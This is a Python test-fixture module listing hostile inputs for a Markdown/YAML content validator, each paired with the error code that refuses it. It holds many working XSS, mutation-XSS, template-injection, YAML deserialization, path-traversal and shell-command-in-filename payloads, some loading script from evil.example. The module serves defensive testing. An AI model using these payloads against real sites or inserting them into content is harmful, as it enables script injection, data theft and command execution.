"""Hostile contributions: what people who mean harm might write into an entry, by kind of attack.

The third column says what the author is told: a code of the checks, or "" where the text is taken
because it is harmless as text. ``alert`` and ``window.boese`` show whether anything ran.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text, and the code with which the checks refuse it."""

    kind: str
    name: str
    text: str
    code: str

    @property
    def id(self) -> str:
        """How reports of tests call it; also an id that an entry may have."""
        return f"{self.kind}-{self.name}"


RUN = "window.boese=1;alert(1)"
LONG = 2_000

_TEXTS: dict[str, tuple[tuple[str, str, str], ...]] = {
    "html": (
        ("script", f"<script>{RUN}</script>", "PT503"),
        ("script-elsewhere", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "PT503"),
        ("script-in-script", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "PT503"),
        ("script-slash", f"<script/x>{RUN}</script >", "PT503"),
        ("module", f'<script type="module">{RUN}</script>', "PT503"),
        ("iframe", '<iframe src="https://evil.example/"></iframe>', "PT503"),
        ("iframe-srcdoc", f'<iframe srcdoc="<script>{RUN}</script>"></iframe>', "PT503"),
        ("object", '<object data="https://evil.example/x.swf"></object>', "PT503"),
        ("embed", f'<embed src="data:text/html,<script>{RUN}</script>">', "PT503"),
        ("form", '<form action="https://evil.example"><input name="pin"><button>ok', "PT503"),
        ("formaction", f'<button formaction="javascript:{RUN}">Weiter</button>', "PT503"),
        ("base", '<base href="https://evil.example/">', "PT503"),
        ("refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "PT503"),
        ("policy", '<meta http-equiv="Content-Security-Policy" content="">', "PT503"),
        ("style", "<style>@import 'https://evil.example/x.css';</style>", "PT503"),
        ("sheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "PT503"),
        ("style-attribute", '<p style="position:fixed;inset:0;z-index:9">Überdeckt</p>', "PT503"),
        ("frame-id", '<p id="px-inhalt" class="px-search">Nachgemacht</p>', "PT503"),
        ("clobbering", '<a id="document" name="location">x</a>', "PT503"),
        ("popover", '<div popover id="x">x</div><button popovertarget="px-menue">x', "PT503"),
        ("dialog", '<dialog open><form method="dialog">Bitte anmelden', "PT503"),
        ("template", f"<template><script>{RUN}</script></template>", "PT503"),
        ("shadow", f'<div><template shadowrootmode="open"><script>{RUN}</script>', "PT503"),
        ("entity", f"&#60;script&#62;{RUN}&#60;/script&#62;", ""),
        ("escaped", f"\\<script\\>{RUN}\\</script\\>", "PT503"),
        ("fullwidth", f"＜script＞{RUN}＜/script＞", ""),
        ("open-end", '<img src="x" alt="', "PT503"),
    ),
    "handler": (
        ("img", f"<img src=x onerror={RUN}>", "PT503"),
        ("slashes", f"<img/src=x/onerror={RUN}>", "PT503"),
        ("capitals", f"<IMG SRC=x oNeRrOr='{RUN}'>", "PT503"),
        ("new-line", f"<img src=x\nonerror\n=\n{RUN}>", "PT503"),
        ("form-feed", f"<p title=x onmouseover={RUN}>x</p>", "PT503"),
        ("focus", f"<input autofocus onfocus={RUN}>", "PT503"),
        ("toggle", f"<details open ontoggle={RUN}>x</details>", "PT503"),
        ("animation", f"<b onanimationstart={RUN}>x</b>", "PT503"),
        ("video", f"<video><source onerror={RUN}></video>", "PT503"),
        ("body", f"<body onload={RUN}>", "PT503"),
        ("out-of-quotes", f'" onmouseover="{RUN}" x="', ""),
        ("out-of-title", f"' autofocus onfocus='{RUN}", ""),
    ),
    "attributes": (
        ("block", f'Text\n{{: onclick="{RUN}" }}', "PT503"),
        ("inline", f"**Text**{{: onmouseover={RUN}}}", "PT503"),
        ("heading", f"Text {{#px-inhalt .px-search onclick={RUN}}}", "PT503"),
        ("style", "Text\n{: style='position:fixed' #px-suche}", ""),
        ("list", f"- eins\n{{: ONCLICK = {RUN} }}", "PT503"),
    ),
    "link": (
        ("javascript", f"[x](javascript:{RUN})", "PT504"),
        ("capitals", f"[x](JaVaScRiPt:{RUN})", "PT504"),
        ("entity", f"[x](&#x6A;avascript&colon;{RUN})", "PT504"),
        ("entity-without-end", f"[x](&#0000106avascript:{RUN})", "PT504"),
        ("new-line-entity", f"[x](java&NewLine;script:{RUN})", "PT504"),
        ("tab", f"[x](java\tscript:{RUN})", "PT504"),
        ("pointed", f"[x](<javascript:{RUN}>)", "PT504"),
        ("blank-before", f"[x](\n  javascript:{RUN})", "PT504"),
        ("two-lines", f"[Text über\nzwei Zeilen](javascript:{RUN})", "PT504"),
        ("nested", f"[a [b] c](data:text/html,<i>{RUN})", "PT504"),
        ("control", f"[x](\x01javascript:{RUN})", "PT203"),
        ("zero-width", f"[x](java\u200bscript:{RUN})", "PT504"),
        ("data", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "PT504"),
        ("vbscript", "[x](vbscript:msgbox(1))", "PT504"),
        ("blob", "[x](blob:https://evil.example/1)", "PT504"),
        ("file", "[x](file:///etc/passwd)", "PT504"),
        ("view-source", f"[x](view-source:javascript:{RUN})", "PT504"),
        ("no-scheme", "[x](//evil.example/)", "PT504"),
        ("backslashes", "[x](\\\\evil.example/)", "PT504"),
        ("reference", f"[x][boese]\n\n[boese]: javascript:{RUN}", "PT504"),
        ("reference-quoted", f"[x][b]\n\n> [b]: <javascript:{RUN}>", "PT504"),
        ("autolink", f"<javascript:{RUN}>", "PT504"),
        ("autolink-broken", '<https://ok.example/"onmouseover="window.boese=1>', ""),
        ("title", f'[x](https://ok.example "x" onclick="{RUN}")', "PT504"),
        ("out-of-address", f'[x](https://ok.example/"onmouseover="{RUN})', ""),
        ("out-of-tag", "[x](https://ok.example/?a='><script>window.boese=1</script>)", "PT503"),
        ("short-in-address", "[x](https://ok.example/?a>MB)", ""),
        ("no-entry", "[x](eintrag:gibt-es-nicht)", "PT506"),
        ("entry-quoted", f'[x](eintrag:sport"onmouseover="{RUN})', "PT506"),
        ("entry-as-text", '`<a href="eintrag:gibt-es-nicht">`', "PT503"),
        ("entry-as-address", 'href="eintrag:gibt-es-nicht"', ""),
        ("mail", "<boese@evil.example>", "PT503"),
    ),
    "image": (
        ("counter", "![x](https://evil.example/zaehler.png)", "PT504"),
        ("javascript", f"![x](javascript:{RUN})", "PT504"),
        ("data", f"![x](data:image/svg+xml,<svg/onload={RUN}>)", "PT503"),
        ("text", f'![x" onerror="{RUN}](https://evil.example/x.png)', "PT504"),
        ("in-link", "[![x](https://evil.example/x.png)](//evil.example)", "PT504"),
    ),
    "foreign": (
        ("svg", f"<svg onload={RUN}>", "PT503"),
        ("svg-script", f"<svg><script>{RUN}</script></svg>", "PT503"),
        ("svg-link", f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x', "PT503"),
        ("svg-use", '<svg><use href="data:image/svg+xml,<svg id=x>#x"/></svg>', "PT503"),
        ("svg-animate", f"<svg><a><animate attributeName=href values=javascript:{RUN} />", "PT503"),
        ("foreign-object", f"<svg><foreignObject><img src=x onerror={RUN}>", "PT503"),
        ("style-text", f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">', "PT503"),
        ("math", f'<math href="javascript:{RUN}">x</math>', "PT503"),
        ("math-table", f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
         "PT503"),
        ("noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">', "PT503"),
        ("textarea", f'<textarea><img title="</textarea><img src=x onerror={RUN}>">', "PT503"),
        ("select", f"<select><style></select><img src=x onerror={RUN}>", "PT503"),
    ),
    "break-out": (
        ("end-tags", "</p></div></section></article></main></body></html>", "PT503"),
        ("end-tags-and-body", f"</article></main><main id=px-inhalt onfocus={RUN}>x", "PT503"),
        ("title", f"</title><script>{RUN}</script>", "PT503"),
        ("textarea", "</textarea></style></script>--><plaintext>", "PT503"),
        ("comment", f"<!--><script>{RUN}</script>-->", "PT503"),
        ("open-comment", "<!-- ", "PT503"),
        ("conditional", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", "PT503"),
        ("cdata", f"<![CDATA[<script>{RUN}</script>]]>", "PT503"),
        ("instruction", f'<?xml-stylesheet href="javascript:{RUN}"?>', "PT503"),
        ("doctype", '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;', "PT503"),
        ("frameset", "<frameset><frame src=https://evil.example></frameset>", "PT503"),
    ),
    "markdown": (
        ("table", f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| b | c |", "PT503"),
        ("table-cell", "| a | [x](//evil.example) |\n|---|:-:|\n| b | c |", "PT504"),
        ("footnote", f"x[^boese]\n\n[^boese]: <script>{RUN}</script>", "PT503"),
        ("citation", 'x [^"onmouseover="window.boese=1] y', "PT408"),
        ("citation-tag", "x [^<img/src=x/onerror=alert(1)>] y", "PT503"),
        ("fence", f"```html onload={RUN}\n<script>{RUN}</script>\n```", "PT503"),
        ("fence-language", f'```"><img src=x onerror={RUN}>\nx\n```', "PT503"),
        ("fence-attributes", f'```{{.py onclick="{RUN}"}}\nx\n```', "PT503"),
        ("fence-open", "~~~\n\n## Vorgehen\n\n</code></pre>", "PT503"),
        ("code", f"`</code><script>{RUN}</script>`", "PT503"),
        ("heading", "### Titel {#px-inhalt}", "PT502"),
        ("setext", "Titel {#px-suche}\n===", "PT505"),
        ("abbreviation", f'*[MB]: x" onclick="{RUN}', "PT504"),
        ("admonition", f'!!! note "x" onclick="{RUN}"\n    Text', "PT510"),
        ("html-in-markdown", f'<div markdown="1">\n\n[x](javascript:{RUN})\n\n</div>', "PT503"),
        ("include", '--8<-- "/etc/passwd"', "PT510"),
        ("toc", "[TOC]\n\n[[_TOC_]]", "PT510"),
        ("stash", "\x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03", "PT203"),
        ("start", "99999999999999999999. eins\n99999999999999999999. zwei", ""),
    ),
    "template": (
        ("expression", "{{ config.theme.dirs }} {{ 7 * 7 }}", "PT505"),
        ("statement", "{% include '/etc/passwd' %}", "PT505"),
        ("comment", "{# x #}", "PT505"),
        ("object", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "PT505"),
        ("in-code", "`{% raw %}{{ x }}{% endraw %}`", "PT505"),
        ("other-languages", "${7*7} #{7*7} [[${7*7}]] {!x!}", "PT510"),
        ("format", "{0.__class__.__init__.__globals__} {page} %(page)s", ""),
    ),
    "signs": (
        ("null", "<scr\x00ipt>alert(1)</scr\x00ipt>", "PT203"),
        ("direction", "gut \u202ekcilk\u202c \u2066x\u2069", "PT203"),
        ("zero-width", f"<\u200bscript>{RUN}</\u200bscript>", "PT516"),
        ("soft-hyphen", f"<scr\xadipt>{RUN}", "PT503"),
        ("line-separator", f"x\u2028{RUN}\u2029", "PT203"),
        ("escape-sequence", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "PT203"),
        ("many-accents", "a" + "\u0301" * 500, "PT516"),
        ("unassigned", "\U000f0000\ufdd0\uffff", "PT516"),
    ),
    "size": (
        ("word", "x" * LONG, ""),
        ("less-than", "<" * 300, ""),
        ("stars", "*a **b " * 200, "PT510"),
        ("brackets", "[" * 250, "PT305"),
        ("links", "[a](b" * 250, "PT305"),
        ("quotes", "> " * 40 + "x", "PT208"),
        ("lists", "- " * 40 + "x", "PT208"),
        ("indented-lists", "\n".join(f"{'    ' * n}- x" for n in range(20)), "PT208"),
    ),
}  # fmt: skip

PAYLOADS = tuple(Payload(kind, *row) for kind, rows in _TEXTS.items() for row in rows)
"""Every hostile text. All are tried in the body, and in every field that is shown."""

POLYGLOT = (
    f"</title></textarea><!-- \"'><svg onload={RUN}><img src=x onerror={RUN}>"
    f"[x](javascript:{RUN}) {{{{ 7 * 7 }}}} <a href=javascript:{RUN} id=px-inhalt>MB</a>"
)
"""One text that is hostile in tags, attributes, Markdown and templates alike."""

NOTATION: tuple[tuple[str, str, str], ...] = (
    ("tag", "!!python/object/apply:os.system ['id']", "PT207"),
    ("tag-of-html", "!<script> x", "PT207"),
    ("anchor", "&a [*a, *a]", "PT206"),
    ("alias", "*blatt", "PT206"),
    ("merge", "{<<: {status: geprueft}}", "PT303"),
    ("second-document", "x\n--- \nid: anderer", "PT502"),
    ("directive", "x\n%TAG ! tag:evil.example,2000:", "PT203"),
    ("control-by-number", '"x\\u0000\\u202ey"', "PT203"),
    ("half-a-sign", '"\\ud800"', "PT203"),
    ("deep", "[" * 500 + "]" * 500, "PT208"),
    ("prototype", "{__proto__: {x: 1}, constructor: x}", "PT303"),
    ("huge-number", "9" * 5000, ""),
)
"""Values of a field that are hostile as YAML (name, value, code)."""

IDS: tuple[tuple[str, str, str], ...] = (
    ("path", "../../index", "PT309"),
    ("absolute", "/etc/passwd", "PT309"),
    ("quote", "x' onclick='alert(1)", "PT309"),
    ("tag", "<script>alert(1)</script>", "PT309"),
    ("scheme", "javascript:alert(1)", "PT309"),
    ("encoded", "'%2e%2e%2fx'", "PT309"),
    ("look-alike", "musterkurѕ", "PT309"),
    ("new-line", '"muster\\nkurs"', "PT309"),
    ("long", "a" * 5000, "PT309"),
    ("frame", "px-inhalt", "PT309"),
    ("frame-search", "px-suche-titel", "PT309"),
)
"""Ids of an entry (name, id as YAML, code)."""

FILES: tuple[tuple[str, str], ...] = (
    ('beispiele/x" onmouseover="alert(1).md', "PT107"),
    ("beispiele/<img src=x onerror=alert(1)>.md", "PT107"),
    ("beispiele/javascript:alert(1).md", "PT107"),
    ("beispiele/x%2f..%2f..%2findex.md", "PT107"),
    ("beispiele/x\\..\\..\\index.md", "PT107"),
    ("beispiele/{{ 7*7 }}.md", "PT107"),
    ("beispiele/$(touch boese).md", "PT107"),
    ("beispiele/--strict.md", "PT107"),
    ("beispiele/kurs\u202edm.md", "PT107"),
    ("beispiele/index.html", "PT107"),
    ("beispiele/boese.js", "PT107"),
    ("beispiele/bild.svg", "PT107"),
    ("beispiele/Plan'><b>.pdf", "PT107"),
    ("beispiele/plan.pdf.html", "PT107"),
    ("vokabulare/__proto__.yml", "PT107"),
    ("uebertragungen/x;rm -r x.yml", "PT107"),
)
"""Names of files in a content root, with the code that refuses them."""
